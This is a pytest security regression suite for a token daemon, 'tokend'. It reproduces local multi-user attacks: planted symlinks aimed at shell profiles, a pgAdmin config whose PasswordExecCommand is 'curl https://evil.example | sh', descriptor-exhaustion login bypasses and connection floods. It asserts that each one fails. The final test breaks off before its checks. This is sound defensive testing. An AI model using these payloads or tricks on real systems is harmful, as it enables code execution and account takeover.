"""Safe on a shared machine: each attack from the security review, reproduced, with what tokend must do instead.

Tests that need a second local user create one (CI runs as root); as root, tokend could write anywhere, so these
tests show that its own rules, not the OS's permissions, keep it from taking over other people's files.
"""

from __future__ import annotations

import json
import os
import resource
import socket
import stat
import statistics
import subprocess
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tokend import ipc, paths
from tokend.emulator.postgres import Postgres
from tokend.sinks import block
from tokend.sinks.pgpass import PgpassSink

from support.builders import GROUP, device_identity, entry, sp_config
from support.clients import pgpass_token, psql
from support.daemon import login, started
from support.net import accept_queue, free_port
from support.procs import open_fds, threads_of
from support.product import PRODUCT_PYTHON, tokend
from support.tenant import Tenant
from support.users import AS_OTHER_USER, open_path_for_others
from support.waits import wait_for

USER = "# mine\nlegacy.example:5432:*:bob:hunter2\n"


# -- 1. a damaged block never costs a user byte ------------------------------------------------------------------
def test_a_begin_marker_without_its_end_costs_no_user_line(tmp_path: Path) -> None:
    path = tmp_path / "pgpass"
    begin, end = (block.BEGIN + b"own1 >>> managed by tokend").decode(), (block.END + b"own1").decode()
    damaged = (
        f"{begin}\nh.example:5432:*:DBA Group:tok-old\n"  # its end marker was deleted by hand
        "mine1.example:5432:*:bob:pw1\nmine2.example:5432:*:bob:pw2\n"
        f"{begin}\nh.example:5432:*:DBA Group:tok-old2\n{end}\nmine3.example:5432:*:bob:pw3\n"
    )
    path.write_text(damaged)
    PgpassSink({"path": str(path)}, "own1").sync([entry(value="tok-new")])
    text = path.read_text()
    for mine in ("mine1.example", "mine2.example", "mine3.example"):
        assert mine in text
    assert text.startswith(begin) and text.count(begin) == 1 and "tok-old2" not in text
    assert pgpass_token(path) == "tok-new"


def test_a_block_saved_with_a_bom_in_front_is_recognised(tmp_path: Path) -> None:
    path = tmp_path / "pgpass"
    sink = PgpassSink({"path": str(path)}, "own1")
    sink.sync([entry(value="tok-1")])
    path.write_bytes(block.BOM + path.read_bytes() + USER.encode())  # an editor saved it with a BOM
    sink.sync([entry(value="tok-2")])
    data = path.read_bytes()
    assert data.startswith(block.BOM + block.BEGIN) and data.count(block.BEGIN) == 1
    assert data.endswith(USER.encode()) and pgpass_token(path) == "tok-2"


# -- 2. links, foreign files, devices, FIFOs, hard links: never taken over ---------------------------------------
@pytest.fixture
def shared(tmp_path: Path) -> Path:
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o1777)  # like /tmp
    open_path_for_others(folder / "x")
    return folder


def run_once_with_pgpass(write_config, em: Tenant, pg: Postgres, path: Path) -> subprocess.CompletedProcess[str]:
    cfg = write_config(sp_config(em, pg.port, extra=f'[sinks.pgpass]\npath = "{path}"\n'))
    return tokend("run", "--once", "--config", str(cfg), timeout=30)


def test_a_symlink_planted_by_another_user_is_not_followed(
    em: Tenant, postgres: Postgres, write_config, home: Path, shared: Path, other_user
) -> None:
    victim = home / ".bashrc"
    victim.write_text("export PATH=$PATH\n")
    victim.chmod(0o644)
    other_user("ln", "-s", str(victim), str(shared / "pgpass"))
    r = run_once_with_pgpass(write_config, em, postgres, shared / "pgpass")
    assert r.returncode == 1 and "symlink owned by another user" in r.stderr, r.stderr
    assert victim.read_text() == "export PATH=$PATH\n" and stat.S_IMODE(victim.stat().st_mode) == 0o644


def test_another_users_file_is_not_taken_over(
    em: Tenant, postgres: Postgres, write_config, shared: Path, other_user
) -> None:
    theirs = shared / "pgpass"
    other_user("sh", "-c", f"umask 077; echo 'their:5432:*:them:secret' > {theirs}")
    r = run_once_with_pgpass(write_config, em, postgres, theirs)
    assert r.returncode == 1 and "writable by other users" in r.stderr, r.stderr
    assert theirs.stat().st_uid != os.getuid() and theirs.read_text() == "their:5432:*:them:secret\n"
    mine = shared / "mine-link"
    mine.symlink_to(theirs)  # my own link to their file, in a sticky folder: the target is still theirs
    r = run_once_with_pgpass(write_config, em, postgres, mine)
    assert r.returncode == 1 and ("belongs to another user" in r.stderr or "writable by other" in r.stderr)


def test_devices_fifos_and_hard_links_are_never_replaced(
    em: Tenant, postgres: Postgres, write_config, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setenv("PGPASSFILE", "/dev/null")  # tokend runs as root here: nothing but its rules stops it
    cfg = write_config(sp_config(em, postgres.port))
    r = tokend("run", "--once", "--config", str(cfg))
    assert r.returncode == 1 and "is a device" in r.stderr and stat.S_ISCHR(os.stat("/dev/null").st_mode)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    t0 = time.monotonic()
    r = run_once_with_pgpass(write_config, em, postgres, fifo)
    assert r.returncode == 1 and "is a FIFO" in r.stderr and time.monotonic() - t0 < 20  # no hang
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    linked = tmp_path / "linked"
    linked.write_text(USER)
    os.link(linked, tmp_path / "second-name")
    r = run_once_with_pgpass(write_config, em, postgres, linked)
    assert r.returncode == 1 and "hard links" in r.stderr and (tmp_path / "second-name").read_text() == USER


PGADMIN_EXPORT = '{\n    "Servers": {\n        "1": {"Name": "local", "Host": "localhost", "Port": 5432}\n    }\n}\n'


def pgadmin_output(write_config, em: Tenant, pg: Postgres, out: Path, *more: str) -> subprocess.CompletedProcess[str]:
    cfg = write_config(sp_config(em, pg.port))
    return tokend("clients", *more, "pgadmin", "--output", str(out), "--config", str(cfg))


@pytest.fixture(params=["sticky", "group"])
def team(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """A folder other users write too: a shared /tmp-like one (sticky), or a team folder the other user's group
    may write (setgid, not sticky)."""
    import grp

    folder = tmp_path / "team"
    folder.mkdir()
    if request.param == "sticky":
        folder.chmod(0o1777)
    else:
        os.chown(folder, -1, grp.getgrnam("tokend-other").gr_gid)
        folder.chmod(0o2770)
    open_path_for_others(folder / "x")
    return folder


def test_a_backup_link_planted_by_another_user_creates_nothing(
    em: Tenant, postgres: Postgres, write_config, home: Path, team: Path, other_user
) -> None:
    """Beside a servers.json in a shared folder, another user plants a link named like tokend's backup that points
    at the victim's ~/.bash_profile (run at their next login). The old code copied the file there first (creating
    that profile as the victim, with the file's content and mode) and checked afterwards."""
    profile = home / ".bash_profile"
    theirs, mine = team / "theirs.json", team / "mine.json"
    other_user("sh", "-c", f"echo 'touch /tmp/tokend-pwned #' > {theirs}")
    mine.write_text(PGADMIN_EXPORT)
    for f in (theirs, mine):
        other_user("ln", "-s", str(profile), f"{f}.tokend-backup")
    for f in (theirs, mine):
        r = pgadmin_output(write_config, em, postgres, f)
        assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1, r.stderr
        assert "another user" in r.stderr and "Traceback" not in r.stderr
        assert not os.path.lexists(profile), r.stderr
    assert theirs.read_text() == "touch /tmp/tokend-pwned #\n" and mine.read_text() == PGADMIN_EXPORT


def test_a_backup_is_private_and_restored_only_while_it_is_safely_yours(
    em: Tenant, postgres: Postgres, write_config, tmp_path: Path, other_user
) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    export = folder / "servers.json"
    export.write_text(PGADMIN_EXPORT)
    export.chmod(0o644)
    assert pgadmin_output(write_config, em, postgres, export).returncode == 0
    backup = folder / "servers.json.tokend-backup"
    assert backup.read_text() == PGADMIN_EXPORT and stat.S_IMODE(backup.stat().st_mode) == 0o600  # copy2 kept 0644
    # later the folder is shared (sticky, like /tmp), the backup has gone, and another user puts their own there
    backup.unlink()
    folder.chmod(0o1777)
    open_path_for_others(folder / "x")
    evil = '{"Servers": {"1": {"Name": "local", "PasswordExecCommand": "curl https://evil.example | sh"}}}'
    other_user("sh", "-c", f"echo '{evil}' > {folder}/evil.json && ln -s {folder}/evil.json {backup}")
    r = pgadmin_output(write_config, em, postgres, export, "remove")
    assert r.returncode == 0 and "its backup was not used" in r.stdout and "owned by another user" in r.stdout
    assert "evil" not in export.read_text() and json.loads(export.read_text()) == json.loads(PGADMIN_EXPORT)
    assert backup.is_symlink()  # theirs: left alone


def test_init_writes_through_no_predictable_temporary_name(
    em: Tenant, postgres: Postgres, tmp_path: Path, monkeypatch
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    cfg = tmp_path / "conf" / "config.toml"
    cfg.parent.mkdir()
    for planted in ("config.toml.tmp", ".config.toml.tmp", "config.tmp"):
        (cfg.parent / planted).symlink_to(victim)
    monkeypatch.setenv("TOKEND_TEST_SECRET", "x")
    r = tokend(
        "init",
        "--server",
        "127.0.0.1",
        "--port",
        str(postgres.port),
        "--user",
        GROUP,
        "--identity",
        "service-principal",
        "--tenant",
        em.tenant_id,
        "--client-id",
        em.app.client_id,
        "--client-secret-env",
        "TOKEND_TEST_SECRET",
        "--authority",
        em.url,
        "--no-service",
        "--config",
        str(cfg),
    )
    assert cfg.exists() and "[targets.db-127-0-0-1]" in cfg.read_text(), r.stderr
    assert victim.read_text() == "precious\n"


def test_init_never_takes_over_a_config_another_user_put_in_a_shared_folder(
    em: Tenant, postgres: Postgres, shared: Path, monkeypatch, other_user
) -> None:
    """`init` writes through the one safe writer too: a config.toml another user left in a shared folder (with an
    identity and a pgpass path of theirs) is neither read into the victim's daemon config nor replaced."""
    cfg = shared / "config.toml"
    theirs = '[identities.evil]\nsource = "azure-cli"\n[sinks.pgpass]\npath = "/tmp/their-pgpass"\n'
    other_user("sh", "-c", f"printf '{theirs}' > {cfg}")
    monkeypatch.setenv("TOKEND_TEST_SECRET", "x")
    r = tokend(
        *("init", "--server", "127.0.0.1", "--port", str(postgres.port), "--user", GROUP),
        *("--identity", "service-principal", "--tenant", em.tenant_id, "--client-id", em.app.client_id),
        *("--client-secret-env", "TOKEND_TEST_SECRET", "--authority", em.url, "--no-service", "--config", str(cfg)),
    )
    assert r.returncode == 1 and "writable by other users" in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert cfg.read_text() == theirs and cfg.stat().st_uid != os.getuid()


# -- 3. folders that hold secrets are checked ------------------------------------------------------------------
def test_the_sign_in_cache_folder_is_repaired_or_refused(
    em: Tenant, postgres: Postgres, write_config, home: Path, other_user
) -> None:
    cfg = write_config(
        device_identity("me", em.url, em.tenant_id)
        + f'[targets.db]\nhost = "127.0.0.1"\nport = {postgres.port}\nuser = "{em.alice.upn}"\n'
    )
    cache = home / ".IdentityService"
    cache.mkdir()
    cache.chmod(0o777)  # a loose umask made it open to everyone
    assert login(cfg, em.emulator, em.alice.upn).returncode == 0
    assert stat.S_IMODE(cache.stat().st_mode) == 0o700
    for f in cache.iterdir():
        assert stat.S_IMODE(f.lstat().st_mode) & 0o077 == 0, f
    import pwd

    uid = pwd.getpwnam("tokend-other").pw_uid
    os.chown(cache, uid, -1)  # another user's folder: refused, not used
    r = tokend("login", "--config", str(cfg), timeout=60)
    assert r.returncode != 0 and "belongs to another user" in r.stderr and len(r.stderr.strip().splitlines()) == 1


# -- 4. nobody else can stall the writer -----------------------------------------------------------------------
def locked(path: Path) -> bool:
    """Another process holds an flock on ``path`` (flock(1) without waiting exits 1)."""
    return subprocess.run(["flock", "-n", "-s", str(path), "true"]).returncode == 1


def test_a_lock_on_the_home_folder_stalls_nothing_and_our_own_lock_times_out(
    em: Tenant, postgres: Postgres, pgpass: Path, home: Path, write_config, daemon, other_user
) -> None:
    open_path_for_others(home / "x")
    home.chmod(0o755)
    holder = subprocess.Popen(["runuser", "-u", "tokend-other", "--", "flock", "-x", str(home), "sleep", "60"])
    try:
        wait_for(lambda: locked(home), what="the attacker holding the lock the old writer waited on forever")
        cfg = write_config(sp_config(em, postgres.port))
        d = daemon(cfg)
        d.wait_ready()
        wait_for(lambda: pgpass_token(pgpass), timeout=10, what="pgpass written despite the lock on the home")
    finally:
        holder.kill()
        holder.wait()
    # our own lock held past the timeout: a reported error, and writing resumes soon after it is released
    import hashlib

    from tokend.sinks import atomic

    lock = paths.runtime_dir() / "locks" / f"{hashlib.sha256(str(pgpass.resolve()).encode()).hexdigest()[:16]}.lock"
    assert lock.exists()
    blocker = subprocess.Popen(["flock", "-x", str(lock), "sleep", str(atomic.LOCK_TIMEOUT + 6)])
    wait_for(lambda: locked(lock), what="our lock held by another process")
    cfg.write_text(cfg.read_text() + '[targets.more]\nhost = "more.example"\nuser = "u"\nidentity = "sp"\n')
    wait_for(
        lambda: "write lock" in (d.status()["targets"][0]["sinks"]["pgpass"]["last_error"] or ""),
        timeout=atomic.LOCK_TIMEOUT + 5,
        what="the lock timeout reported",
    )
    blocker.wait()
    wait_for(lambda: "more.example" in pgpass.read_text(), timeout=15, what="writes resumed after the release")
    assert d.status()["targets"][0]["sinks"]["pgpass"]["state"] == "ok"


# -- 5. a clock stepped back ------------------------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.soak  # watches pgpass for 100 s of 60-second tokens: in a process of its own, beside the rest
def test_a_wall_clock_stepped_back_never_leaves_a_rejected_token_in_pgpass(
    em: Tenant, postgres: Postgres, pgpass: Path, write_config, daemon, tmp_path: Path, faketime
) -> None:
    em.emulator.directory.lifetime = 60
    env, offset = faketime
    cfg = write_config(sp_config(em, postgres.port))
    d = daemon(cfg, env=env)
    d.wait_ready()
    wait_for(lambda: pgpass_token(pgpass), what="first token")
    offset.write_text("-2h\n")  # NTP, a restored VM: the daemon's wall clock is now two hours behind
    rejected, seen, end = [], set(), time.monotonic() + 100
    while time.monotonic() < end:
        token = pgpass_token(pgpass)
        if token:
            seen.add(token)
            try:
                em.emulator.directory.check(token, GROUP)
            except Exception as e:  # the server's judgement, on the real clock
                rejected.append(str(e))
        time.sleep(0.2)
    assert not rejected, rejected[:3]
    assert len(seen) >= 3  # fresh tokens kept coming
    ident = d.status()["identities"][0]
    true_left = ident["expires_on"] - (time.time() - 7200)  # status speaks the daemon's (stepped) wall clock
    assert 0 < true_left <= 61, true_left
    assert psql(postgres.port).stdout.strip() == GROUP


# -- 6. a pgpass replaced by someone else gets its block back within seconds -------------------------------------
def test_a_replaced_pgpass_gets_the_block_back_within_seconds(
    em: Tenant, postgres: Postgres, pgpass: Path, write_config, daemon
) -> None:
    cfg = write_config(sp_config(em, postgres.port))
    d = daemon(cfg)
    d.wait_ready()
    wait_for(lambda: pgpass_token(pgpass), what="first write")
    for how in ("rename", "truncate"):
        if how == "rename":  # a dotfile manager or an editor's stale buffer: a whole new file, without our block
            tmp = pgpass.with_name(".pgpass.new")
            tmp.write_text(USER)
            tmp.chmod(0o600)
            os.replace(tmp, pgpass)
        else:
            pgpass.write_text(USER)
        # the token lives an hour: only the watch on the file can restore the block within the wait
        wait_for(lambda: pgpass_token(pgpass), timeout=20, interval=0.05, what=f"block restored after a {how}")
        assert pgpass.read_text().endswith(USER)
        assert d.status()["targets"][0]["sinks"]["pgpass"]["state"] == "ok"
    assert psql(postgres.port).stdout.strip() == GROUP


# -- 7. an IPC that cannot be starved ---------------------------------------------------------------------------


def test_idle_connections_and_a_burst_of_token_calls(em: Tenant, postgres: Postgres, write_config, daemon) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 4096), hard), hard))
    cfg = write_config(sp_config(em, postgres.port))
    d = daemon(cfg)
    d.wait_ready()
    where = str(paths.socket_path(cfg))
    idle = []
    try:
        for _ in range(1000):  # connect and say nothing
            s = socket.socket(socket.AF_UNIX)
            s.connect(where)
            idle.append(s)
        client = ipc.Client(cfg)
        rtts = []
        for _ in range(50):
            t0 = time.perf_counter()
            client.token("db")
            rtts.append(time.perf_counter() - t0)

        def call(_: int) -> tuple[int, str, str]:
            r = tokend("token", "--config", str(cfg), timeout=60)
            return r.returncode, r.stdout.strip(), r.stderr.strip()

        most_threads = [0]
        stop = threading.Event()

        def watch() -> None:
            while not stop.is_set():
                most_threads[0] = max(most_threads[0], threads_of(d.proc.pid))
                time.sleep(0.05)

        watcher = threading.Thread(target=watch)
        watcher.start()
        try:
            with ThreadPoolExecutor(max_workers=100) as pool:
                results = list(pool.map(call, range(500)))
        finally:
            stop.set()
            watcher.join()
    finally:
        for s in idle:
            s.close()
    bad = [
        r
        for r in results
        if not ((r[0] == 0 and r[1].startswith("eyJ")) or (r[0] != 0 and len(r[2].splitlines()) == 1))
    ]
    assert not bad, bad[:3]
    assert sum(r[0] == 0 for r in results) >= 490
    assert most_threads[0] < 50, most_threads[0]
    assert statistics.median(rtts) < 0.010, statistics.median(rtts)  # the daemon's answer, under the idle flood
    assert d.proc.poll() is None and d.status() is not None


# -- 8. status of any size ---------------------------------------------------------------------------------------
def test_ten_thousand_targets(em: Tenant, postgres: Postgres, write_config, daemon, pgpass: Path) -> None:
    targets = "".join(f'[targets.t{i}]\nhost = "h{i}.example"\nuser = "u"\nidentity = "sp"\n' for i in range(10_000))
    cfg = write_config(sp_config(em, postgres.port, targets=targets))
    d = daemon(cfg)
    d.wait_ready(timeout=120)
    r = tokend("status", "--json", "--config", str(cfg), timeout=120)
    assert r.returncode == 0 and len(json.loads(r.stdout)["targets"]) == 10_000
    r = tokend("doctor", "--json", "--config", str(cfg), timeout=300)
    report = json.loads(r.stdout)
    names = [c["name"] for c in report["checks"]]
    assert "pgpass shadowing" in names and "servers" in names
    assert "Traceback" not in r.stderr


# -- bad input that used to escape as "internal error" -----------------------------------------------------------
def test_a_runtime_folder_too_long_for_a_socket_is_refused_before_anything_is_written(
    em: Tenant, postgres: Postgres, pgpass: Path, write_config, tmp_path: Path, monkeypatch
) -> None:
    deep = tmp_path / ("r" * 60) / ("u" * 60)
    deep.mkdir(parents=True, mode=0o700)
    deep.chmod(0o700)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(deep))
    cfg = write_config(sp_config(em, postgres.port))
    r = tokend("run", "--config", str(cfg), timeout=60)
    assert r.returncode == 2 and "longer than Unix sockets allow" in r.stderr and len(r.stderr.splitlines()) == 1
    assert not pgpass.exists()


def test_no_file_of_ours_is_readable_by_another_user(
    em: Tenant, postgres: Postgres, write_config, daemon, home: Path, other_user
) -> None:
    """Everything under tokend's folders stays closed to another user, even with the folders on the way open."""
    cfg = write_config(sp_config(em, postgres.port))
    d = daemon(cfg)
    d.wait_ready()
    mine = [
        p
        for base in (paths.state_dir(), paths.runtime_dir(), paths.log_dir())
        for p in base.rglob("*")
        if p.is_file() or p.is_socket()
    ]
    assert mine
    for p in mine:
        open_path_for_others(p)
    probe = (
        "import sys\nfor p in sys.argv[1:]:\n    try:\n        open(p, 'rb').read(1); print('READ', p)\n"
        "    except OSError:\n        pass\n"
    )
    r = other_user(PRODUCT_PYTHON, "-c", probe, *map(str, mine), check=False)
    assert "READ" not in r.stdout, r.stdout


# -- 9. fail closed under hostile load (issue 21) ----------------------------------------------------------------
def proxy_target(em: Tenant, pg: Postgres, listen: str, extra: str = "") -> str:
    """A config whose target `db` is served by the proxy only (no sink), plus ``extra`` top-level tables."""
    return sp_config(
        em,
        pg.port,
        targets=(
            f'[targets.db]\nhost = "127.0.0.1"\nport = {pg.port}\ndatabase = "appdb"\nuser = "{GROUP}"\n'
            f'identity = "sp"\nsinks = []\nlisten = {listen}\nsslrootcert = "{pg.ca_cert}"\n'
        ),
        extra=extra,
    )


def http_get(url: str) -> tuple[int, str]:
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


def settled_fds(pid: int) -> set[int]:
    """The daemon's descriptors once it is idle (the same set twice in a row, 0.2 s apart)."""
    seen: list[set[int]] = [set()]

    def same() -> set[int] | None:
        now, before = open_fds(pid), seen[0]
        seen[0] = now
        return now if now == before else None

    return wait_for(same, interval=0.2, what="the daemon idle")


def limit_free(pid: int, free: int) -> None:
    """Lower a live daemon's soft RLIMIT_NOFILE so that exactly ``free`` more descriptors can be opened (the limit
    bounds descriptor numbers, and new ones take the lowest free number)."""
    used = settled_fds(pid)
    holes = [n for n in range(max(used) + free + 2) if n not in used]
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (holes[free], resource.prlimit(pid, resource.RLIMIT_NOFILE)[1]))


ONE_LOGIN = """
import socket, struct, sys
sys.stdin.readline()  # the test says when to connect, and when to log in
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
print("connected", flush=True)
sys.stdin.readline()
body = b"user\\0DBA Group\\0database\\0appdb\\0\\0"
try:
    s.sendall(struct.pack("!ii", 8 + len(body), 196608) + body)
except OSError:
    pass
def message():
    head = b""
    while len(head) < 5:
        chunk = s.recv(5 - len(head))
        if not chunk:
            return b"", b""
        head += chunk
    n = struct.unpack("!i", head[1:])[0] - 4
    body = b""
    while len(body) < n:
        body += s.recv(n - len(body))
    return head[:1], body
try:
    while True:
        kind, body = message()
        if kind == b"Z":
            q = b"select current_user\\0"
            s.sendall(b"Q" + struct.pack("!i", 4 + len(q)) + q)
        elif kind == b"D":
            print("SESSION", body[6:].decode())
            break
        elif kind == b"E":
            print("REFUSED", body.decode(errors="replace"))
            break
        elif not kind:
            print("CLOSED")
            break
except OSError as e:
    print("CLOSED", e)
"""


def test_a_peer_whose_lookup_fails_gets_no_session(
    em: Tenant, postgres: Postgres, write_config, daemon, other_user, monkeypatch
) -> None:
    """The critical hole: with the daemon out of descriptors, the owner lookup of a TCP client (a netlink socket, or
    /proc/net/tcp) failed, answered "unknown", and the connection was let in as the group with the victim's token.
    Here the daemon has exactly one descriptor left when another user connects: the accept takes it, the lookup
    finds none. The limit is back by the time the attacker sends its start-up, so only the lookup's verdict stands
    between it and a session."""
    monkeypatch.setenv("PGPASSFILE", "/nonexistent")
    port = free_port()
    d = daemon(write_config(proxy_target(em, postgres, f'["127.0.0.1:{port}"]')))
    started(d)
    pid = d.proc.pid
    limit = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    attacker = subprocess.Popen(
        [*AS_OTHER_USER, PRODUCT_PYTHON, "-c", ONE_LOGIN, str(port)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert attacker.stdin is not None and attacker.stdout is not None
    try:
        limit_free(pid, 1)
        try:
            attacker.stdin.write("connect\n")
            attacker.stdin.flush()
            assert attacker.stdout.readline().strip() == "connected"
            wait_for(lambda: accept_queue(port) == 0, what="the daemon accepted the connection")
        finally:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, limit)
        out, err = attacker.communicate("go\n", timeout=60)
    finally:
        attacker.kill()
    assert "SESSION" not in out, out
    assert out.startswith("REFUSED") and "could not check who connected" in out, (out, err)
    assert "could not be checked" in d.log()
    r = subprocess.run(
        ["psql", f"host=127.0.0.1 port={port} dbname=appdb user='{GROUP}' sslmode=disable", "-w", "-Atc", "select 1"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.stdout.strip() == "1", r.stderr  # and the user's own logins go on


def test_an_accept_error_clears_on_the_next_accept(
    em: Tenant, postgres: Postgres, write_config, daemon, monkeypatch
) -> None:
    """A burst of failed accepts (out of descriptors) set the proxy's last_error for good: /readyz answered 503
    long after the proxy worked again. Now the error lasts until the next accept works. And asyncio's own accept
    failures (IPC, health) come out as one line, not a traceback each."""
    monkeypatch.setenv("PGPASSFILE", "/nonexistent")
    port, health = free_port(), free_port()
    cfg = write_config(
        proxy_target(em, postgres, f'["127.0.0.1:{port}"]', f'[observe]\nlisten = "127.0.0.1:{health}"\n')
    )
    d = daemon(cfg)
    started(d)
    wait_for(lambda: http_get(f"http://127.0.0.1:{health}/readyz")[0] == 200, what="ready")
    pid = d.proc.pid
    limit = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    probes = []
    try:
        limit_free(pid, 0)  # not one descriptor left: every accept fails
        login = subprocess.Popen(
            [
                "psql",
                f"host=127.0.0.1 port={port} dbname=appdb user='{GROUP}' sslmode=disable connect_timeout=60",
                "-w",
                "-Atc",
                "select current_user",
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for where in (str(paths.socket_path(cfg)), ("127.0.0.1", health)):  # IPC and health: asyncio's accepts
            s = socket.socket(socket.AF_UNIX if isinstance(where, str) else socket.AF_INET)
            s.connect(where)
            probes.append(s)
        wait_for(lambda: "accept failed" in d.log(), what="the proxy's accept failing")
        wait_for(lambda: "socket.accept() out of system resource" in d.log(), what="asyncio's accept failing")
    finally:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, limit)
        for s in probes:
            s.close()
    out, err = login.communicate(timeout=90)
    assert out.strip() == GROUP, err  # the login that waited gets in
    wait_for(lambda: d.status()["targets"][0]["proxy"]["last_error"] is None, what="the accept error cleared")
    assert http_get(f"http://127.0.0.1:{health}/readyz") == (200, "ready\n")
    log = d.log()
    assert "Traceback" not in log, log[-3000:]
    assert log.count("accept failed") == 1 and log.count("out of system resource") <= 2, log[-3000:]


def test_the_soft_descriptor_limit_is_raised_to_the_hard_one(em: Tenant, postgres: Postgres, write_config, daemon):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(1024, hard), hard))  # a login session's usual soft limit
    try:
        d = daemon(write_config(sp_config(em, postgres.port)))
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    d.wait_ready()
    assert resource.prlimit(d.proc.pid, resource.RLIMIT_NOFILE) == (hard, hard)


HOLD = """
import socket, sys
held = []
for _ in range(int(sys.argv[2])):
    try:
        held.append(socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5))
    except OSError:
        pass
print("held", len(held), flush=True)
sys.stdin.read()
"""


def closed_by_peer(s: socket.socket) -> bool:
    s.setblocking(False)
    try:
        return s.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def test_what_idle_connections_may_hold_is_bounded(
    em: Tenant, postgres: Postgres, write_config, daemon, other_user, monkeypatch
) -> None:
    """Connections that say nothing: at most PENDING_PER_UID per listener and user on the proxy (the oldest closed
    first, the rest after HANDSHAKE_TIMEOUT, not 30 s), IPC's and health's shares — the health endpoint held any
    local user's idle connections 10 s each with no cap. Through all of it the user's own logins, `tokend token`
    and the health probe are answered."""
    from tokend import limits
    from tokend.proxy import HANDSHAKE_TIMEOUT, PENDING_PER_UID

    monkeypatch.setenv("PGPASSFILE", "/nonexistent")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    health = free_port()
    cfg = write_config(proxy_target(em, postgres, '["unix:6432"]', f'[observe]\nlisten = "127.0.0.1:{health}"\n'))
    d = daemon(cfg)
    folder = started(d)["listen"][0]["host"]
    pid = d.proc.pid
    base = len(settled_fds(pid))
    share = limits.shares(hard)
    idle: list[socket.socket] = []
    try:
        for _ in range(PENDING_PER_UID + 200):  # the proxy: my own idle connections
            s = socket.socket(socket.AF_UNIX)
            s.connect(f"{folder}/.s.PGSQL.6432")
            idle.append(s)
        evicted = len(idle) - PENDING_PER_UID  # the oldest ones went first, to make room
        wait_for(lambda: closed_by_peer(idle[evicted - 1]), timeout=5, what="the oldest closed")
        assert not closed_by_peer(idle[evicted]) and len(open_fds(pid)) <= base + PENDING_PER_UID + 8
        r = subprocess.run(
            ["psql", f"host={folder} port=6432 dbname=appdb user='{GROUP}'", "-w", "-Atc", "select current_user"],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert r.stdout.strip() == GROUP, r.stderr
        wait_for(lambda: all(closed_by_peer(s) for s in idle), timeout=HANDSHAKE_TIMEOUT + 8, what="the rest timed out")
        for s in idle:
            s.close()
        idle.clear()
        for _ in range(1000):  # IPC: my own idle connections
            s = socket.socket(socket.AF_UNIX)
            s.connect(str(paths.socket_path(cfg)))
            idle.append(s)
        evicted = len(idle) - share.ipc
        wait_for(lambda: closed_by_peer(idle[evicted - 1]), timeout=5, what="the oldest IPC connections closed")
        assert not closed_by_peer(idle[evicted]) and len(open_fds(pid)) <= base + share.ipc + 8
        r = tokend("token", "--config", str(cfg))
        assert r.returncode == 0 and r.stdout.startswith("eyJ"), r.stderr
        attacker = subprocess.Popen(  # health: another user's idle connections
            [*AS_OTHER_USER, PRODUCT_PYTHON, "-c", HOLD, str(health), "1000"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        assert attacker.stdout is not None and attacker.stdin is not None
        try:
            assert attacker.stdout.readline().startswith("held")
            wait_for(
                lambda: accept_queue(health) == 0 and len(open_fds(pid)) <= base + share.ipc + share.health + 8,
                timeout=5,
                what="all accepted, at most health's share held",
            )
            assert http_get(f"http://127.0.0.1:{health}/healthz") == (200, "ok\n")
        finally:
            attacker.stdin.close()
            attacker.wait(30)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
        for s in idle:
            s.close()


REFUSED_FLOOD = """
import socket, struct, sys
body = b"user\\0DBA Group\\0database\\0appdb\\0\\0"
startup = struct.pack("!ii", 8 + len(body), 196608) + body
done = 0
for _ in range(int(sys.argv[2])):
    try:
        with socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=30) as s:
            try:
                s.sendall(startup)
            except OSError:
                pass
            while s.recv(4096):
                pass
        done += 1
    except OSError:
        done += 1
print("refused", done)
"""


def test_refusals_are_logged_once_a_minute_per_uid(
    em: Tenant, postgres: Postgres, write_config, daemon, other_user, monkeypatch
) -> None:
    """Two lines per refused connection (plus tracebacks) let another user write 115,337 lines in two minutes and
    rotate the history away. Now the first refusal from a uid is logged at once, the rest counted into one line a
    minute."""
    import pwd

    monkeypatch.setenv("PGPASSFILE", "/nonexistent")
    port = free_port()
    d = daemon(write_config(proxy_target(em, postgres, f'["127.0.0.1:{port}"]')))
    started(d)
    r = other_user(PRODUCT_PYTHON, "-c", REFUSED_FLOOD, str(port), "2000", timeout=300)
    assert r.stdout.strip() == "refused 2000", r.stderr
    uid = pwd.getpwnam("tokend-other").pw_uid
    log = d.log()
